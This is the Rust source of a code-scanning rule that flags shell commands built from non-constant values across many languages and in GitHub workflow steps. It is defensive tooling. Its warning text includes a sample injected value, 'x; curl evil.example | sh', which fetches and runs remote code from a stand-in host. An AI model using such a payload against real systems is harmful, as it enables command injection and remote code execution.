//! `shell-injection`: a command line for a shell, put together from values.

mod javascript;

use std::ops::Range;

use crate::{
    finding::Severity,
    language::Language,
    matching::{
        calls::{self, Qualifier},
        imports::Imports,
        pattern,
        rows::{self, CallRow, call},
        ships, strings,
    },
    rule::{Check, Hit, Rule, Sink},
    view::{FileView, HunkView, Side},
};

/// The rule.
pub static RULE: Rule = Rule {
    id: "shell-injection",
    severity: Severity::Major,
    title: "Shell command built from values",
    reason: "A value with `;`, `|` or `$(…)` in it becomes a command of its own.",
    explain: "\
Finds command lines for a shell that are not constant: `subprocess` with `shell=True`, `os.system`, \
`child_process.exec`, back ticks and `system` with interpolation, `sh -c` with a variable, \
`Runtime.exec` with a joined text, `shell_exec`, and their like. It is critical where the value comes \
from a request or another input.\n\n\
Leaves alone: constant commands, argument lists without a shell, values that were quoted \
(`shlex.quote`, `escapeshellarg`, `Shellwords.escape`), tests.\n\n\
Do: pass the program and its arguments as a list, without a shell.",
    languages: &[],
    triggers: &[
        "shell",
        "system",
        "popen",
        "exec",
        "spawn",
        "getoutput",
        "getstatusoutput",
        "passthru",
        "\"-c\"",
        "'-c'",
        "-c \"",
        "-c $",
        "qx",
        "`",
        "%x",
        "proc_open",
        "processbuilder",
        "\"/c\"",
        "command",
        "process",
        "\".!",
        "$`",
        "cmd",
        "open3",
        "github.",
        "open(",
        "open my",
        "capture",
    ],
    strict_only: false,
    never_silenced_by_change: false,
    check: Check::Hunk(check),
};

const TRIGGER: &str = "A value such as `x; curl evil.example | sh` runs as a second command.";

static CALLS: [CallRow; 16] = [
    call!(
        [Php],
        r"\b(?:shell_exec|passthru|proc_open|popen|pcntl_exec)\s*\(",
        NotConstant,
        0
    ),
    call!([Php], r"\b(?:system|exec)\s*\(", NotConstant, 0),
    call!(
        [Ruby],
        r"\b(?:system|exec|spawn|popen|popen3|capture2|capture2e|capture3|pipeline|`)\s*\(",
        Built,
        0
    ),
    call!([Perl], r"\b(?:system|exec)\s*\(", Built, 0),
    call!(
        [C, Cpp, ObjectiveC],
        r"\b(?:system|popen|_popen|_wsystem)\s*\(",
        NotConstant,
        0
    ),
    call!(
        [Java, Kotlin, Scala],
        r"\bgetRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\b(?:runtime|rt|Runtime)\s*\.\s*exec\s*\(",
        Built,
        0
    ),
    call!(
        [Java, Kotlin, Scala],
        r"\b(?:ProcessBuilder|exec|listOf|arrayOf|List\.of|asList)\s*\(",
        Any,
        9
    ),
    call!([Lua], r"\b(?:os\.execute|io\.popen)\s*\(", NotConstant, 0),
    call!([Go], r"\bexec\.Command\s*\(|\bsyscall\.Exec\s*\(", Any, 9),
    call!([Go], r"\bexec\.CommandContext\s*\(", Any, 9),
    call!([CSharp], r"\bProcess\.Start\s*\(", Any, 9),
    call!(
        [Elixir],
        r":os\.cmd\s*\(|\bSystem\.shell\s*\(",
        NotConstant,
        0
    ),
    call!([Dart], r"\bProcess\.(?:run|start|runSync)\s*\(", Any, 9),
    call!([Swift], r"\bsystem\s*\(|\bshell\s*\(", Built, 0),
    call!(
        [Kotlin, Scala],
        r"\bRuntime\.getRuntime\(\)\.exec\s*\(",
        Built,
        0
    ),
    call!(
        [JavaScript, TypeScript, Vue],
        r"\b(?:child_process|cp|childProcess|require\([^()]*\))\s*\.\s*(?:exec|execSync)\s*\(",
        Built,
        0
    ),
];

pattern!(SHELL_TRUE, r"\bshell\s*=\s*(?:True|1)\b");
pattern!(
    ANY_DASH_C,
    r#"["'](?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh["']\s*,\s*(?:\[|arguments:\s*\[|listOf\s*\(|&?\[|new\s*\[\]\s*\{)?\s*["']-[a-z]*c["']\s*,\s*|["'](?:cmd|cmd\.exe)["']\s*,\s*\[?\s*["']/[cC]["']\s*,\s*|\barguments\s*=\s*\[\s*"-[a-z]*c"\s*,\s*"#
);
pattern!(SCALA, r#"\bs"{1,3}[^"\n]*\$[^"\n]*"{1,3}\s*\.\s*!{1,2}"#);
static REMOTE: [CallRow; 1] = [call!([Python], r"\.\s*exec_command\s*\(", Built, 0)];
pattern!(SHELL_ENTRY, r#"(["']shell["']\s*:\s*True)\b"#);
pattern!(PYTHON_CALL, r"(?:\b([A-Za-z_][\w.]*)\.)?\b(\w+)\s*\(");
pattern!(
    DASH_C,
    r#"["'](?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh["']\s*,\s*["']-[a-z]*c["']\s*,\s*|["'](?:cmd|cmd\.exe)["']\s*,\s*["']/[cC]["']\s*,\s*|["']powershell(?:\.exe)?["']\s*,\s*["']-(?:c|Command)["']\s*,\s*"#
);
pattern!(
    RUST_SHELL,
    r#"Command::new\(\s*"(?:/(?:usr/)?bin/)?(?:(?:ba|z|da)?sh|cmd|cmd\.exe|powershell)"\s*\)"#
);
pattern!(
    RUST_ARGUMENT,
    r#"\.(?:arg|args)\s*\(\s*(?:&?\[)?\s*"(?:-[a-z]*c|/[cC]|-Command)"\s*(?:\)\s*\.\s*arg\s*\(|,)\s*"#
);
pattern!(
    BACKTICK,
    r"`[^`\n]*#\{[^}\n]+\}[^`\n]*`|%x[\[({|!][^\n]*#\{[^}\n]+\}"
);
pattern!(
    RUBY_BARE,
    r#"(?m)(?:^|[=;({\s])(?:Kernel\.)?(system|exec|spawn|IO\.popen|Open3\.\w+)[ ]+("[^"\n]*#\{[^"\n]+"|["'][^"'\n]*["']\s*\+\s*\w)"#
);
pattern!(
    PERL_BARE,
    r#"(?m)(?:^|[=;({\s])(system|exec)[ ]+("[^"\n]*[$@]\w[^"\n]*")|(?:=|return|\()\s*(`[^`\n]*[$@]\w[^`\n]*`|qx[{(/|!][^\n]*[$@]\w)"#
);
pattern!(
    PHP_BACKTICK,
    r"(?:=|return|echo|\()\s*(`[^`\n]*\$\w[^`\n]*`)"
);
pattern!(
    SHELL_DASH_C,
    r#"\b(?:ba|z|da)?sh\s+-[a-z]*c\s+("[^"\n]*\$[A-Za-z_0-9{@*][^"\n]*"|\$[A-Za-z_0-9{@*]\S*)"#
);
pattern!(
    QUOTED,
    r"\b(?:shlex\s*\.\s*(?:quote|join)|pipes\.quote|quote|escapeshellarg|escapeshellcmd|Shellwords\.(?:escape|join)|shellescape|shell_quote|shellquote|shell_escape|list2cmdline|ShellQuote|shellEscape|escapeShellArg)\b"
);
pattern!(
    CS_SHELL,
    r#"(?i)\b(?:Arguments\s*=\s*|(?:Process\.Start|ProcessStartInfo)\s*\(\s*"(?:cmd|cmd\.exe|/bin/(?:ba)?sh|bash|sh|powershell(?:\.exe)?)"\s*,\s*)(\$@?"[^"\n]*(?:/c|-c|-Command)\s(?:[^"\n\\]|\\.)*\{(?:[^"\n\\]|\\.)*"|"[^"\n]*(?:/c|-c|-Command)\s(?:[^"\n\\]|\\.)*"\s*\+)"#
);

pattern!(
    PERL_PIPE,
    r#"\bopen\s*\(?\s*(?:my\s+)?\$?\w+\s*,\s*("\|\s*[^"\n]*\$\w[^"\n]*"|"[^"\n|]*\$\w[^"\n]*\|\s*")"#
);
// What anybody may write who opens an issue or a pull request.
pattern!(
    FROM_OUTSIDE,
    r"\$\{\{\s*github\.(?:head_ref|event\.(?:issue|pull_request|comment|review|review_comment|discussion|head_commit|commits\[\d+\]|workflow_run\.head_commit|pages\[\d+\])(?:\.\w+)*\.(?:title|body|message|email|name|ref|label|page_name))\s*\}\}"
);

/// A `run:` step of a workflow into which the runner writes a text before the shell reads it.
fn workflow(file: &FileView<'_>, side: &Side, sink: &mut Sink) {
    if !file.path.contains(".github/") && !file.name.starts_with("action.y") {
        return;
    }
    let indent = |line: &str| line.len() - line.trim_start_matches([' ', '-']).len();
    let key = |line: &str| line.trim_start_matches([' ', '-']).split(':').next() == Some("run");
    for found in FROM_OUTSIDE.find_iter(&side.live) {
        let own = side.line_at(found.start());
        let text = &side.live[side.line_range(own)];
        let above = (own.saturating_sub(80)..own)
            .rev()
            .map(|at| &side.live[side.line_range(at)])
            .find(|line| !line.trim().is_empty() && indent(line) < indent(text));
        if key(text) || above.is_some_and(key) {
            report(side, found.range(), sink);
        }
    }
}

fn check(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
    if !ships(file) {
        return;
    }
    let side = &hunk.new;
    for call in rows::called(&CALLS, file, hunk) {
        let name = side.code[call.whole.start..call.open].trim_end();
        let last = calls::last_word(name);
        let qualifier = calls::qualifier(&side.code, call.name);
        let inside = calls::inside(&side.code, call.open);
        let fits = match file.language {
            Language::Php => {
                qualifier == Qualifier::None && calls::word_before(&side.code, call.name) != "new"
            }
            Language::C | Language::Cpp | Language::ObjectiveC => qualifier.is_none_or(&["std"]),
            Language::Ruby => {
                qualifier.is_none_or(&["Kernel", "IO", "Open3", "Process"])
                    && !is_list(side, &call.argument)
            }
            Language::Perl | Language::Lua | Language::Elixir | Language::Swift => {
                qualifier.is_none_or(&["os", "io"])
            }
            Language::Go | Language::Dart => dash_c(side, file.language, inside.clone()),
            Language::CSharp => {
                dash_c(side, file.language, inside.clone())
                    || CS_SHELL.is_match(&side.live[call.whole.clone()])
            }
            Language::Java | Language::Kotlin | Language::Scala => {
                (last == "exec"
                    && name.contains('.')
                    && strings::is_built(side, file.language, call.argument.clone()))
                    || dash_c(side, file.language, inside.clone())
            }
            _ => true,
        };
        if fits {
            report(side, call.whole, sink);
        }
    }
    match file.language {
        Language::Yaml => workflow(file, side, sink),
        Language::Perl => {
            found(&PERL_BARE, hunk, sink);
            for found in PERL_PIPE.captures_iter(&side.live) {
                let Some(text) = found.get(1) else { continue };
                if !side.in_test(text.start()) {
                    report(side, text.range(), sink);
                }
            }
        }
        Language::Python => {
            for call in rows::called(&REMOTE, file, hunk) {
                report(side, call.whole, sink);
            }
            python(file, hunk, sink);
            if side.live.contains("subprocess") && side.code.contains("**") {
                found(&SHELL_ENTRY, hunk, sink);
            }
        }
        Language::JavaScript | Language::TypeScript | Language::Vue => {
            javascript::javascript(file, hunk, sink);
        }
        Language::Rust => rust(hunk, sink),
        Language::Ruby => {
            found(&BACKTICK, hunk, sink);
            found(&RUBY_BARE, hunk, sink);
        }
        Language::Php => found(&PHP_BACKTICK, hunk, sink),
        Language::CSharp => found(&CS_SHELL, hunk, sink),
        Language::Scala => found(&SCALA, hunk, sink),
        Language::Shell => found(&SHELL_DASH_C, hunk, sink),
        _ => {}
    }
    if !matches!(
        file.language,
        Language::Shell
            | Language::Yaml
            | Language::Json
            | Language::Dockerfile
            | Language::Toml
            | Language::Rust
    ) {
        shell_lists(file, hunk, sink);
    }
}

/// A shell, `-c` and a text that isn't constant, in whatever list.
fn shell_lists(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
    let side = &hunk.new;
    for found in ANY_DASH_C.find_iter(&side.live) {
        let end = calls::expression_end(&side.code, found.end());
        let value = calls::trim(&side.code, found.end()..end.max(found.end()));
        let range = found.start()..value.end.max(found.end());
        let is_text = side.code.as_bytes()[found.start()] == b' ';
        if is_text
            || value.is_empty()
            || side.in_test(found.start())
            || !side.touches_change(&range)
        {
            continue;
        }
        let code = &side.code[value.clone()];
        let is_shouted = code
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
        if !is_shouted
            && !strings::is_constant(side, file.language, value.clone())
            && !is_constant_name(side, file.language, &value)
        {
            report(side, range, sink);
        }
    }
}

/// Reports once per place, unless what is spliced in was quoted.
fn report(side: &Side, range: Range<usize>, sink: &mut Sink) {
    let text = &side.live[range.clone()];
    if QUOTED.is_match(text)
        || sink
            .hits
            .iter()
            .any(|p| p.hit.range.start <= range.start && range.start < p.hit.range.end)
    {
        return;
    }
    let mut hit = Hit::at(range, TRIGGER);
    if rows::is_input(text) {
        hit.severity = Some(Severity::Critical);
    }
    sink.hit(hit);
}

fn found(pattern: &regex::Regex, hunk: &HunkView<'_>, sink: &mut Sink) {
    let side = &hunk.new;
    for captures in pattern.captures_iter(&side.live) {
        let Some(group) = captures.iter().skip(1).flatten().next().or(captures.get(0)) else {
            continue;
        };
        let is_text = side.code.as_bytes()[group.start()] == b' ';
        if !is_text && !side.in_test(group.start()) && side.touches_change(&group.range()) {
            report(side, group.range(), sink);
        }
    }
}

fn is_list(side: &Side, argument: &Range<usize>) -> bool {
    side.code[argument.clone()].starts_with('[')
}

/// True if the arguments name a shell, `-c`, and then something that isn't constant.
fn dash_c(side: &Side, language: Language, inside: Range<usize>) -> bool {
    let text = &side.live[inside.clone()];
    DASH_C.find(text).is_some_and(|found| {
        let start = inside.start + found.end();
        let end = calls::expression_end(&side.code, start).min(inside.end);
        let value = calls::trim(&side.code, start..end.max(start));
        let code = &side.code[value.clone()];
        !code.is_empty() && !strings::is_constant(side, language, value)
    })
}

fn python(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
    let side = &hunk.new;
    let imports = Imports::of(file);
    for found in PYTHON_CALL.captures_iter(&side.code) {
        let (Some(whole), Some(name)) = (found.get(0), found.get(2)) else {
            continue;
        };
        let open = whole.end() - 1;
        let owner = found.get(1).map(|o| o.as_str());
        let is_of = |module: &str, member: &str| match owner {
            Some(owner) => {
                name.as_str() == member && (owner == module || imports.is_module(owner, module))
            }
            None => imports.is_member(name.as_str(), module, member),
        };
        let runs = ["run", "call", "check_call", "check_output", "Popen"]
            .iter()
            .any(|f| is_of("subprocess", f));
        let takes_text = ["system", "popen", "popen2", "popen3"]
            .iter()
            .any(|f| is_of("os", f))
            || ["getoutput", "getstatusoutput"]
                .iter()
                .any(|f| is_of("subprocess", f) || is_of("commands", f))
            || is_of("asyncio", "create_subprocess_shell");
        if side.in_test(whole.start()) || calls::is_declaration(&side.code, whole.start(), open) {
            continue;
        }
        let inside = calls::inside(&side.code, open);
        let range = whole.start()..(inside.end + 1).min(side.code.len());
        if !side.touches_change(&range) {
            continue;
        }
        let uses_shell = SHELL_TRUE.is_match(&side.code[inside.clone()]);
        if !(takes_text || (uses_shell && (runs || owner.is_none_or(|o| !o.starts_with("self.")))))
        {
            if runs && dash_c(side, file.language, inside) {
                report(side, range, sink);
            }
            continue;
        }
        let Some(argument) = calls::split(&side.code, inside).into_iter().next() else {
            continue;
        };
        let argument = calls::named(&side.code, &argument).map_or(argument, |(_, value)| value);
        if strings::is_constant(side, file.language, argument.clone())
            || is_constant_list(side, file.language, &argument)
            || is_constant_name(side, file.language, &argument)
        {
            continue;
        }
        report(side, range, sink);
    }
}

fn is_constant_list(side: &Side, language: Language, argument: &Range<usize>) -> bool {
    let code = &side.code[argument.clone()];
    code.starts_with('[') && strings::is_constant(side, language, argument.clone())
}

/// A shouted name, or a name that the hunk binds to a constant and never again.
fn is_constant_name(side: &Side, language: Language, argument: &Range<usize>) -> bool {
    let name = side.code[argument.clone()].trim();
    if name.is_empty() || !name.bytes().all(calls::is_word) {
        return false;
    }
    if name.len() > 1
        && name
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
    {
        return true;
    }
    let mut bound = 0;
    let mut from = 0;
    let code = &side.code;
    while let Some(at) = code[from..].find(name).map(|at| from + at) {
        from = at + name.len();
        let rest = code[from..].trim_start_matches(' ');
        let rest = rest
            .strip_prefix(':')
            .filter(|r| r.starts_with('='))
            .unwrap_or(rest);
        let is_whole = !code[..at].ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '.');
        if !is_whole || !rest.starts_with('=') || rest.starts_with("==") {
            if is_whole && rest.starts_with("+=") {
                return false;
            }
            continue;
        }
        let start = code.len() - rest.len() + 1;
        let end = calls::expression_end(code, start);
        if !strings::is_constant(side, language, start..end) {
            return false;
        }
        bound += 1;
    }
    bound > 0
}

fn rust(hunk: &HunkView<'_>, sink: &mut Sink) {
    let side = &hunk.new;
    for shell in RUST_SHELL.find_iter(&side.live) {
        let end = calls::expression_end(&side.code, shell.start());
        let chain = &side.live[shell.end()..end.max(shell.end())];
        let Some(flag) = RUST_ARGUMENT.find(chain) else {
            continue;
        };
        let start = shell.end() + flag.end();
        let value_end = calls::expression_end(&side.code, start);
        let value = calls::trim(&side.code, start..value_end);
        let range = shell.start()..value.end.max(shell.end());
        if value.is_empty() || side.in_test(shell.start()) || !side.touches_change(&range) {
            continue;
        }
        if !strings::is_constant(side, Language::Rust, value.clone())
            && !is_constant_name(side, Language::Rust, &value)
        {
            report(side, range, sink);
        }
    }
}
